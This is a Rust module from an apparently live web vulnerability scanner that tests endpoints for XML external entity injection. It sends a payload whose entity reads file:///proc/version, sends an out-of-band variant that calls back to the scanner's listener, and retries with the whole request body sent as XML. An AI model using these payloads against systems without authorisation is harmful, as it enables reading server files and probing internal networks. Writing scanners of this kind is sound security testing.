//! XML: an entity that reads a file, or an address that the listener hears.

use super::Spot;
use super::files::is_version;
use crate::live::call::{Answer, Body, Call};
use crate::live::engine::{Engine, Stop};
use crate::live::point::Point;

pub(super) async fn run(engine: &mut Engine, spot: &Spot) -> Result<(), Stop> {
    if matches!(spot.point, Point::Path(_) | Point::Cookie(_)) {
        return Ok(());
    }
    let of_file = document("file:///proc/version");
    let (call, answer) = spot.attack(engine, &of_file).await?;
    if is_version(&answer.text) && !is_version(&spot.base.text) {
        spot.report(engine, "live-xxe", &call, &answer, "Linux version");
        return Ok(());
    }
    let token = engine.marker();
    let Some(address) = engine
        .listener
        .as_ref()
        .map(|listener| listener.address(&token))
    else {
        return Ok(());
    };
    let (call, answer) = spot.attack(engine, &document(&address)).await?;
    if heard(engine, &token) {
        spot.report(engine, "live-xxe", &call, &answer, "");
        return Ok(());
    }
    whole_body(engine, spot).await
}

fn document(address: &str) -> String {
    format!("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY e SYSTEM \"{address}\">]><r>&e;</r>")
}

fn heard(engine: &Engine, token: &str) -> bool {
    engine
        .listener
        .as_ref()
        .is_some_and(|listener| listener.heard(token).is_some())
}

/// A route that takes JSON or a form may take XML as well.
async fn whole_body(engine: &mut Engine, spot: &Spot) -> Result<(), Stop> {
    let is_first = matches!(spot.point, Point::Form(0)) || matches!(&spot.point, Point::Json(_));
    if !is_first
        || engine.findings.has(
            "live-xxe",
            &spot.route.call.method,
            &spot.route.pattern,
            "body",
        )
    {
        return Ok(());
    }
    let call = Call {
        body: Body::Raw(
            "application/xml".to_owned(),
            document("file:///proc/version").into_bytes(),
        ),
        ..spot.route.call.clone()
    };
    let answer: Answer = engine.send(spot.who, &call).await?;
    if is_version(&answer.text) && !is_version(&spot.base.text) {
        let finding =
            crate::live::finding::LiveFinding::of("live-xxe", &call.method, &spot.route.pattern)
                .at("body", "body");
        engine.prove(finding, &call, &answer, "Linux version");
    }
    Ok(())
}
